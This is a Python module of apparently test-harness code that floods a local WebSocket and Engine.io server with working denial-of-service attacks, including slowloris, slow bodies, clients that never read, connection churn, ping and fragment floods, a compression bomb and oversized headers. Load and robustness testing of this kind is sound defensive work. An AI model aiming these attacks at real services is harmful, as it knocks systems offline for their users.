"""The attacks: raw sockets and hand-made bytes. Each runs until it is cancelled, and hangs up then."""

from __future__ import annotations

import socket
import struct
import zlib
from contextlib import contextmanager, suppress
from typing import TYPE_CHECKING

import trio

from hostile.wire import CONT, PING, TEXT, Raw, frame, request, upgrade

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable, Iterator

    from hostile.flood.harness import Flooded

_GONE = (OSError, EOFError, trio.BrokenResourceError, trio.ClosedResourceError)


@contextmanager
def closing(raws: list[Raw]) -> Iterator[list[Raw]]:
    """Hang up on all of them at the end."""
    try:
        yield raws
    finally:
        for raw in raws:
            raw.hang_up()


async def in_parallel(count: int, one: Callable[[], Awaitable[object]]) -> None:
    """Run so many of them beside each other."""
    async with trio.open_nursery() as nursery:
        for number in range(count):
            nursery.start_soon(one)
            if number % 50 == 49:
                await trio.sleep(0.01)


async def nothing(flooded: Flooded) -> None:
    """No attack: what the others are compared with."""


def slowloris(connections: int, pause: float = 5.0) -> Callable[[Flooded], Awaitable[None]]:
    """F1: heads that come byte by byte."""

    async def one(flooded: Flooded) -> None:
        head = upgrade()
        while True:
            raw = await flooded.raw()
            with closing([raw]), suppress(*_GONE):
                for at in range(len(head)):
                    if not await raw.send(head[at : at + 1]):
                        break
                    with trio.move_on_after(pause):
                        if not await raw.more():
                            flooded.refused += 1
                            break
                        raw.buffer.clear()
            flooded.connected += 1
            await trio.sleep(pause / 5)

    return lambda flooded: in_parallel(connections, lambda: one(flooded))


def slow_bodies(connections: int) -> Callable[[Flooded], Awaitable[None]]:
    """F2: bodies of which a byte comes every second, some that stop, and frames of which only the header comes."""

    async def body(flooded: Flooded, stops: bool) -> None:
        while True:
            raw = await flooded.raw()
            flooded.connected += 1
            with closing([raw]), suppress(*_GONE):
                await raw.send(request("POST", "/read", "Content-Length: 1000"))
                for _ in range(3 if stops else 1000):
                    if not await raw.send(b"x"):
                        break
                    await trio.sleep(1)
                await raw.more()
            await trio.sleep(1)

    async def a_frame(flooded: Flooded) -> None:
        while True:
            raw = await flooded.websocket()
            if raw is not None:
                with closing([raw]), suppress(*_GONE):
                    await raw.send(frame(TEXT, length=1_000_000))
                    while await raw.more():
                        raw.buffer.clear()
            await trio.sleep(1)

    async def attack(flooded: Flooded) -> None:
        async with trio.open_nursery() as nursery:
            nursery.start_soon(in_parallel, connections // 2, lambda: body(flooded, False))
            nursery.start_soon(in_parallel, connections // 2, lambda: body(flooded, True))
            nursery.start_soon(in_parallel, connections, lambda: a_frame(flooded))

    return attack


async def small(flooded: Flooded) -> Raw | None:
    """Open a WebSocket that takes next to nothing."""
    sock = trio.socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    try:
        await sock.connect(("127.0.0.1", flooded.port))
        raw = Raw(trio.SocketStream(sock))
        await raw.send(upgrade())
        await raw.answer()
    except _GONE:
        sock.close()
        flooded.refused += 1
        return None
    except BaseException:
        sock.close()
        raise
    flooded.connected += 1
    return raw


def drowning(megabytes: int, pause: float = 5.0) -> Callable[[Flooded], Awaitable[None]]:
    """F3: a client that never reads while the server has much to say to it; when it is closed, it comes again."""

    async def attack(flooded: Flooded) -> None:
        while True:
            raw = await small(flooded)
            if raw is not None:
                with closing([raw]):
                    await raw.send(frame(TEXT, b'{"type":0,"data":["drown",%d]}' % megabytes))
                    await trio.sleep(pause)

    return attack


def slow_room(slow: int, reading: int) -> Callable[[Flooded], Awaitable[None]]:
    """F4: a room of which many members read nothing."""
    join = frame(TEXT, b'{"type":0,"data":["join","flood"]}')

    async def reader(flooded: Flooded) -> None:
        raw = await flooded.websocket()
        assert raw is not None
        with closing([raw]), suppress(*_GONE):
            await raw.send(join)
            while await raw.more():
                raw.buffer.clear()

    async def stalled(flooded: Flooded) -> None:
        while True:
            raw = await small(flooded)
            if raw is not None:
                with closing([raw]):
                    await raw.send(join)
                    await trio.sleep(20)

    async def attack(flooded: Flooded) -> None:
        async with trio.open_nursery() as nursery:
            nursery.start_soon(in_parallel, reading, lambda: reader(flooded))
            nursery.start_soon(in_parallel, slow, lambda: stalled(flooded))

    return attack


def connecting(per_second: int) -> Callable[[Flooded], Awaitable[None]]:
    """F5: connections that are opened and closed at once, by turns with a reset, half a request, a whole one."""

    async def attack(flooded: Flooded) -> None:
        began, count = trio.current_time(), 0
        while True:
            sock = socket.socket()
            sock.setblocking(False)
            with suppress(OSError):
                sock.connect_ex(("127.0.0.1", flooded.port))
                if count % 4 == 1:
                    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                elif count % 4:
                    sock.send(upgrade() if count % 4 == 2 else b"GET / HT")
            sock.close()
            count += 1
            flooded.connected = count
            if count % 20 == 0:
                await trio.sleep_until(max(trio.current_time(), began + count / per_second))

    return attack


def idle(connections: int) -> Callable[[Flooded], Awaitable[None]]:
    """F5: sockets that are opened, and that is all; those that are closed are opened again."""

    async def attack(flooded: Flooded) -> None:
        open_ones: list[socket.socket] = []
        try:
            while True:
                for _ in range(100):
                    if len(open_ones) < connections:
                        sock = socket.socket()
                        sock.setblocking(False)
                        sock.connect_ex(("127.0.0.1", flooded.port))
                        open_ones.append(sock)
                        flooded.connected += 1
                await trio.sleep(0.02)
                kept = []
                for sock in open_ones:
                    try:
                        over = sock.recv(4096) != b"\0"  # an answer, or the end
                        flooded.refused += 1
                    except BlockingIOError:
                        over = False
                    except OSError:
                        over = True
                    if over:
                        sock.close()
                    else:
                        kept.append(sock)
                open_ones = kept
        finally:
            for sock in open_ones:
                sock.close()

    return attack


def repeating(
    data: bytes, clients: int, *headers: str, target: str = "/primus", reads: bool = True
) -> Callable[[Flooded], Awaitable[None]]:
    """F7, F8: the same bytes again and again, as fast as they are taken; who is closed comes again."""

    async def one(flooded: Flooded) -> None:
        while True:
            raw = await flooded.websocket(target, *headers)
            if raw is None:
                await trio.sleep(0.1)
                continue
            with closing([raw]), suppress(*_GONE):
                async with trio.open_nursery() as nursery:

                    async def read(raw: Raw = raw, scope: trio.CancelScope = nursery.cancel_scope) -> None:
                        with suppress(*_GONE):
                            while await raw.more():
                                raw.buffer.clear()
                        scope.cancel()

                    if reads:
                        nursery.start_soon(read)
                    while await raw.send(data):
                        await trio.lowlevel.checkpoint()
                    nursery.cancel_scope.cancel()
            await trio.sleep(0.01)

    return lambda flooded: in_parallel(clients, lambda: one(flooded))


def once(data: bytes) -> Callable[[Flooded], Awaitable[None]]:
    """F7: so many bytes, as fast as they are taken, and then nothing but silence; at the end a reset."""

    async def attack(flooded: Flooded) -> None:
        raw = await flooded.websocket()
        assert raw is not None
        try:
            await raw.send(data)
            await trio.sleep_forever()
        finally:
            raw.reset()

    return attack


def fragments() -> bytes:
    """Give what B8 and B9 send: a fragment too many, full or empty."""
    return b"".join(frame(CONT if n else TEXT, b"" if n % 2 else b"x", fin=False) for n in range(1100))


def pings() -> bytes:
    """Give what B13 sends."""
    return frame(PING, b"p" * 125) * 500


def bomb() -> bytes:
    """Give what B11 sends: some 260 KiB that inflate to 256 MiB."""
    stream = zlib.compressobj(9, wbits=-15)
    one = stream.compress(bytes(1 << 20)) + stream.flush(zlib.Z_FULL_FLUSH)  # what follows begins anew: it is the same
    return frame(TEXT, (one * 256)[:-4], rsv=4)


def headers_held(connections: int) -> Callable[[Flooded], Awaitable[None]]:
    """F9: as many bytes of headers as are allowed, and the last line end never comes; or the upgrade is made."""
    lines = [f"X-{number}: {'x' * 7900}" for number in range(2)]

    async def one(flooded: Flooded, whole: bool) -> None:
        while True:
            raw = await flooded.websocket("/primus", *lines) if whole else await flooded.raw()
            if raw is not None:
                with closing([raw]), suppress(*_GONE):
                    if not whole:
                        await raw.send(upgrade(*lines)[:-2])
                        flooded.connected += 1
                    while await raw.more():
                        raw.buffer.clear()
            await trio.sleep(0.2)

    async def attack(flooded: Flooded) -> None:
        async with trio.open_nursery() as nursery:
            nursery.start_soon(in_parallel, connections // 2, lambda: one(flooded, True))
            nursery.start_soon(in_parallel, connections // 2, lambda: one(flooded, False))

    return attack


def polling(sessions: int) -> Callable[[Flooded], Awaitable[None]]:
    """F13: sessions that are opened and never polled."""

    async def attack(flooded: Flooded) -> None:
        for _ in range(sessions):
            raw = await flooded.raw()
            with closing([raw]):
                await raw.send(request("GET", "/engine.io/?EIO=4&transport=polling"))
                await raw.answer()
                flooded.connected += 1

    return attack


def rooms(connections: int, each: int) -> Callable[[Flooded], Awaitable[None]]:
    """F10: many connections in many rooms each; all leave them and come again, then all hang up at once."""
    names = ",".join(f'"room {number}"' for number in range(each))
    join = frame(TEXT, b'{"type":0,"data":["join",%s]}' % names.encode())
    leave = frame(TEXT, b'{"type":0,"data":["leave"]}')

    async def attack(flooded: Flooded) -> None:
        with closing([]) as raws:
            while len(raws) < connections:
                raw = await flooded.websocket()
                if raw is not None:
                    raws.append(raw)
                    await raw.send(join)
            for order in (leave, join):
                for raw in raws:
                    await raw.send(order)
            await trio.sleep(2)

    return attack
